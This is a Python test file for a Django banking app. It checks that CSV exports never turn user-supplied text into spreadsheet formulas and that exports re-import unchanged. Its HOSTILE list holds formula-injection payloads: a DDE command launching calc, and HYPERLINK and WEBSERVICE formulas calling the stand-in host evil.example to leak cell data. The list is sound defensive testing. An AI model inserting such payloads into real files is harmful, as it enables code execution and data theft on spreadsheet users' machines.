"""G24 csv_injection: nothing a file, a shop or a person wrote becomes a formula in an export."""

import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from accounts.customers.models import Customer
from accounts.models import Role
from tests.factories import (
    make_account,
    make_budget,
    make_category,
    make_customer,
    make_grant,
    make_person,
    make_transactions,
)
from tests.guards import Guard
from transactions.csv_cells import FORMULA, as_it_was, harmless, is_formula
from transactions.imports import services
from transactions.models import ImportBatch, ImportIssue, Transaction

COMMAND = 'cmd|"/C calc"!A0'
HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", f"={COMMAND}", f"-{COMMAND}", f"+{COMMAND}", f"@{COMMAND}",
    '=HYPERLINK("http://evil.example?"&A1,"x")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  -2+3",
    "'=1+1", "''=1+1", "＝1+1", "－2+3", "＋1", "＠SUM(1)", '"=1+1"', "=1+1\nsecond line", "\u00a0=1+1",
    "plain; =1+1", "a,b;=1+1", "-", "--", "-5.00", "+49 170 1", "=", "@shop", "- 10 % off",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"a\";\"b\";\"c\")", "=IMPORTXML(\"x\",\"y\")",
]  # fmt: skip


def stored(text: str) -> str:
    """As a row of the ledger may hold it."""
    return text.replace("\r", " ").replace("\n", " ").replace("\t", " ") or "x"


@pytest.fixture
def customer(north: str) -> Customer:
    """A customer whose names, texts, categories and accounts are all hostile."""
    customer = make_customer(with_sign_in=True, branch="=1+1")
    own = make_category(name="=1+1 own", kind="expense")
    for place, currency in enumerate(("EUR", "JPY")):
        account = make_account(customer=customer, currency=currency, name=f"=acc{place}")
        make_transactions(account, [
            {"amount": Decimal(-100 - n), "raw_text": text, "clean_text": text, "counterparty": text,
             "reference": text, "category": own, "booked_on": date(2026, 6, 1 + n % 28)}
            for n, text in enumerate(HOSTILE)
        ])  # fmt: skip
    make_budget(customer=customer, category=own, month=date(2026, 6, 1))
    return customer


def cells_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and "csv" in response["Content-Type"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(".", "", 1).isdecimal() and cell.isascii()


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet would run: they begin as formulas do and are no plain number."""
    return [c for row in rows for c in row if c.lstrip().startswith(FORMULA) and not is_number(c)]


def exports(customer: Customer) -> Iterator[tuple[str, list[list[str]]]]:
    """Every download of the product, as its cells."""
    assert customer.user
    own, ada = Client(HTTP_HOST="north.test"), Client(HTTP_HOST="north.test")
    own.force_login(customer.user)
    admin = make_person(role=Role.ADMIN)
    make_grant(staff=admin, customer=customer)
    ada.force_login(admin)
    yield "transactions", cells_of(own.get("/transactions/export.csv"))
    for chart in ("trend", "categories", "budgets", "cashflow", "ahead"):
        answer = own.get(f"/overview/{chart}.csv?start_date=2026-06-01&end_date=2026-06-30")
        if answer.status_code == 200:
            yield f"overview {chart}", cells_of(answer)
    account = customer_account(customer)
    url = f"/admin/transactions/transaction/export/?account__id__exact={account.pk}"
    for name, address in (("admin", url), ("admin masked", url.partition("?")[0])):
        answer = ada.post(address, {"format": "0", "account": account.pk, "resource": ""})
        if answer.status_code == 200 and "csv" in answer["Content-Type"]:
            yield name, cells_of(answer)
    batch = ImportBatch.objects.create(customer=customer, state="planned", counts={"rejected": 1})
    ImportIssue.objects.bulk_create(
        ImportIssue(batch=batch, line=n, verdict="rejected", code="x", column=stored(text)[:80],
                    value=text, reason=text, fix=text, raw=text)
        for n, text in enumerate(HOSTILE)
    )  # fmt: skip
    yield "rejected", cells_of(own.get(f"/imports/{batch.public_id}/rejected.csv"))


def customer_account(customer: Customer) -> Any:
    from transactions.models import BankAccount

    return BankAccount.objects.held_by(customer).order_by("pk").first()


@pytest.mark.guard("G24")
def test_no_export_holds_a_formula(customer: Customer, guard: Guard) -> None:
    seen: dict[str, int] = {}
    for name, rows in exports(customer):
        assert not (bad := formulas(rows)), f"{name}: {bad[:5]}"
        seen[name] = sum(map(len, rows))
    assert {"transactions", "rejected"} <= seen.keys() and any("overview" in n for n in seen), seen
    assert any("admin" in n for n in seen), seen
    n = sum(seen.values())
    guard("G24", reached=f"0 formula cells in {len(seen)} exports", n=n)


@pytest.mark.guard("G24")
def test_negative_amounts_stay_numbers(customer: Customer, guard: Guard) -> None:
    rows = dict(exports(customer))["transactions"]
    at = rows[0].index("amount")
    amounts = sorted(Decimal(row[at]) for row in rows[1:])
    wanted = sorted(Transaction.objects.values_list("amount", flat=True))
    assert amounts == wanted and all(a < 0 for a in amounts)
    guard("G24", reached="negative amounts are numbers, equal to the ledger", n=len(amounts))


@pytest.mark.guard("G24")
def test_an_export_comes_back_as_it_was(north: str, guard: Guard) -> None:
    customer = make_customer(with_sign_in=True)
    account = make_account(customer=customer, name="Everyday")
    texts = [stored(t) for t in HOSTILE]
    make_transactions(account, [
        {"amount": Decimal(n * 7 - 99) / 100 - 3, "raw_text": text, "booked_on": date(2026, 5, 1 + n % 28),
         "value_on": date(2026, 5, 2), "counterparty": text, "reference": text,
         "status": "pending" if n % 9 == 0 else "posted"}
        for n, text in enumerate(texts)
    ])  # fmt: skip
    assert customer.user
    client = Client(HTTP_HOST="north.test")
    client.force_login(customer.user)
    body = b"".join(client.get("/transactions/export.csv").streaming_content)
    again = make_account(customer=make_customer(), name="Everyday")
    batch = services.receive(
        stream=io.BytesIO(body), name="export.csv", customer=again.holders.get().customer,
        account=again, limit=10**7,
    )  # fmt: skip
    assert batch.adapter == "COUNTERFOIL", batch.refused_message
    batch = services.plan(batch)
    services.commit(batch, plan_hash=batch.plan_hash)

    def rows_of(account: Any) -> list[Any]:
        # White space at the ends is what cells of CSV lose everywhere.
        names = (
            "booked_on",
            "value_on",
            "amount",
            "raw_text",
            "counterparty",
            "reference",
            "status",
        )
        found = Transaction.objects.filter(account=account).values_list(*names)
        return sorted(tuple(v.strip() if isinstance(v, str) else v for v in row) for row in found)

    assert rows_of(again) == rows_of(account)
    guard("G24", reached="export → import equal in every column of the source", n=len(texts))


@pytest.mark.guard("G24")
def test_any_text_is_harmless_and_comes_back(guard: Guard) -> None:
    tried = 0

    @settings(max_examples=2000, deadline=None, derandomize=True, database=None)
    @given(st.text(st.sampled_from("=+-@'＝ \t\r\n\"a1;,\u00a0"), max_size=12))
    def law(text: str) -> None:
        nonlocal tried
        tried += 1
        cell = harmless(text)
        assert as_it_was(cell) == text
        assert not cell.lstrip(" \u00a0").startswith(FORMULA)
        assert not is_formula(text) or cell == f"'{text}"

    law()
    guard("G24", reached="0 texts of any kind run or change", n=tried, seed="derandomized")


@pytest.mark.nightly
@pytest.mark.guard("G24")
def test_a_spreadsheet_sees_no_formula(customer: Customer, guard: Guard, tmp_path: Path) -> None:
    """LibreOffice opens each export and says what its cells are."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("no LibreOffice here: install libreoffice-calc")
    cells = 0
    for name, rows in exports(customer):
        source = tmp_path / f"{name.replace(' ', '-')}.csv"
        with source.open("w", newline="", encoding="utf-8-sig") as file:
            csv.writer(file).writerows(rows)
        subprocess.run(
            [office, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(source)],
            check=True, capture_output=True, timeout=120,
            env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        )  # fmt: skip
        sheet = source.with_suffix(".fods").read_text()
        assert "table:formula" not in sheet, name
        cells += sum(map(len, rows))
    guard("G24", reached="0 formula cells in LibreOffice", n=cells)
